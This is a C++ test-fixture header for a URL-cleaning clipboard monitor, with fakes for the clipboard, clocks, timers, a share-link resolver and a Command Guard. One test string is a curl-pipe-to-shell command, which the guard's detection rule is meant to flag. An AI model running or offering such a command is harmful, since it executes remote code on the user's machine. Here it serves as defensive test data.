// The clipboard monitor over an in-memory clipboard, a cleaner with a small
// rule set of its own, a Command Guard with two test rules, a fake share-link
// resolver, and executors and timers that run only when the test says so.
#pragma once

#include <map>
#include <memory>
#include <stdexcept>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "ScourletCore/clipboard/ClipboardMonitor.h"
#include "ScourletCore/platform/InMemoryUserDefaults.h"
#include "support/InMemoryPasteboard.h"
#include "support/ManualClock.h"
#include "support/ManualExecutor.h"
#include "support/ManualMainQueue.h"
#include "support/ManualMonotonicClock.h"
#include "support/ManualTimerScheduler.h"
#include "support/RecordingNotificationPoster.h"
#include "support/ScopedTimeZone.h"
#include "support/TempDir.h"

namespace scourlet::testing {

inline constexpr std::string_view kMonitorProviders = R"json({"providers":{
  "news analytics": {
    "urlPattern": "^https?://(?:[a-z0-9-]+\\.)*?news\\.example",
    "rules": ["ref_src", "share_id"]
  }
}})json";

// A risky command (which also holds a tracked link) and the guard's rules.
inline constexpr std::string_view kRiskyCommand = "curl https://news.example/i.sh?ref_src=x | sh";
inline constexpr std::string_view kCommandGuardRules =
    R"json({"currentVersion": "test-1", "rules": [
  {"id": "pipe-to-shell", "platform": "test", "severity": "danger",
   "pattern": "curl[^|\\n]*\\|\\s*sh", "summary": "Pipes a download into a shell",
   "explanation": "Runs code from elsewhere."},
  {"id": "listing", "platform": "test", "severity": "info",
   "pattern": "^ls -la", "summary": "Lists files", "explanation": "Harmless."}
]})json";

// Share links and what the fake service answers for them.
inline constexpr std::string_view kInstagramShare = "https://www.instagram.com/share/AbC";
inline constexpr std::string_view kInstagramPost = "https://www.instagram.com/p/XYZ/";
inline constexpr std::string_view kThreadsShare = "https://www.threads.net/share/Q1/";
inline constexpr std::string_view kThreadsPost = "https://www.threads.net/@someone/post/Q1";
inline constexpr std::string_view kAmazonShort = "https://a.co/d/Abc_-9";
inline constexpr std::string_view kAmazonProduct = "https://www.amazon.com/dp/B0ABCDEFGH";

// A share-link resolver that answers from a table, and records what it was asked.
struct FakeResolver {
    using Answer = Result<ResolvedShareLink, ShareLinkResolutionError>;

    void answer(std::string_view link, std::string_view canonical, std::string_view host) {
        answers.insert_or_assign(std::string(link),
                                 Answer(ResolvedShareLink{std::string(link), std::string(canonical),
                                                          std::string(host), 1}));
    }
    void fail(std::string_view link, ShareLinkResolutionError error) {
        answers.insert_or_assign(std::string(link), Answer(error));
    }

    ClipboardMonitor::ResolveShareLink function() {
        return [this](std::string link) -> Answer {
            calls.push_back(link);
            if (throws) {
                throw std::runtime_error("resolver exploded");
            }
            const auto it = answers.find(link);
            return it != answers.end() ? it->second
                                       : Answer(ShareLinkResolutionError::requestFailed);
        };
    }

    std::map<std::string, Answer> answers;
    std::vector<std::string> calls;
    bool throws = false;
};

class ClipboardMonitorTest : public ::testing::Test {
protected:
    ClipboardMonitorTest() {
        clock->set(std::chrono::sys_days(std::chrono::year(2026) / 3 / 7) + std::chrono::hours(9));
        engine->loadRules(kMonitorProviders);
        writeFile(guardDir / "command-guard-rules.json", std::string(kCommandGuardRules));
        poster->answerAtOnce(true);
        notifications->requestPermission();
        mainQueue->runAll();
        monitor_ = makeMonitor();
    }

    std::shared_ptr<const CommandGuard> makeGuard() const {
        return std::make_shared<const CommandGuard>(ResourceBundle(guardDir),
                                                    guardDir / "no-installed-rules.json");
    }

    ClipboardMonitor::Environment environment() {
        return {.timers = timers,
                .mainQueue = mainQueue,
                .executor = executor,
                .clock = clock,
                .monotonicClock = monotonic,
                .resolveShareLink = resolver.function(),
                .loadCommandGuard = [this] { return makeGuard(); }};
    }

    // A monitor over `board` (the fixture's in-memory clipboard by default).
    std::unique_ptr<ClipboardMonitor> makeMonitor(std::shared_ptr<Pasteboard> board = nullptr) {
        return std::make_unique<ClipboardMonitor>(cleaner, stats, notifications, makeGuard(),
                                                  defaults, board ? board : pasteboard,
                                                  environment());
    }

    // The monitor made at the start of each test, over the empty clipboard.
    ClipboardMonitor& monitor() { return *monitor_; }

    // "The user copies `text`", then one timer tick.
    void copyAndPoll(std::string text) {
        pasteboard->copy(std::move(text));
        monitor().poll();
    }

    // Lets every held background job and every posted main-queue item run,
    // until neither has anything left.
    void settle() {
        while (executor->runAll() + mainQueue->runAll() > 0) {
        }
    }

    std::size_t cleanNotifications() const {
        std::size_t n = 0;
        for (const auto& posted : poster->posted()) {
            n += posted.title == NotificationManager::kCleanTitle ? 1 : 0;
        }
        return n;
    }

    std::int64_t storedCountToday() const {
        return defaults->integerForKey(ClipboardMonitor::dailyCountKey(clock->now()));
    }

    ScopedTimeZone zone{"UTC0"};
    TempDir dir;
    std::filesystem::path guardDir = dir / "guard";
    std::shared_ptr<ManualClock> clock = std::make_shared<ManualClock>();
    std::shared_ptr<ManualMonotonicClock> monotonic = std::make_shared<ManualMonotonicClock>();
    std::shared_ptr<InMemoryUserDefaults> defaults = std::make_shared<InMemoryUserDefaults>();
    std::shared_ptr<RulesEngine> engine = std::make_shared<RulesEngine>(defaults, nullptr);
    std::shared_ptr<DomainExceptionStore> exceptions =
        std::make_shared<DomainExceptionStore>(defaults);
    std::shared_ptr<LastCleanRecorder> recorder = std::make_shared<LastCleanRecorder>(clock.get());
    std::shared_ptr<URLCleaner> cleaner = std::make_shared<URLCleaner>(
        engine, exceptions, recorder, "macOSClipboard", PrivacyRedirectSettings::disabled(),
        [] { return std::optional<PrivacyServicesCatalog::Verified>(); }, clock.get());
    std::shared_ptr<ManualMainQueue> mainQueue = std::make_shared<ManualMainQueue>();
    std::shared_ptr<ManualExecutor> executor = std::make_shared<ManualExecutor>();
    std::shared_ptr<ManualTimerScheduler> timers = std::make_shared<ManualTimerScheduler>();
    std::shared_ptr<StatsTracker> stats = std::make_shared<StatsTracker>(defaults, clock);
    std::shared_ptr<RecordingNotificationPoster> poster =
        std::make_shared<RecordingNotificationPoster>();
    std::shared_ptr<NotificationManager> notifications =
        std::make_shared<NotificationManager>(defaults, poster, mainQueue);
    std::shared_ptr<InMemoryPasteboard> pasteboard = std::make_shared<InMemoryPasteboard>();
    FakeResolver resolver;
    std::unique_ptr<ClipboardMonitor> monitor_;
};

}  // namespace scourlet::testing
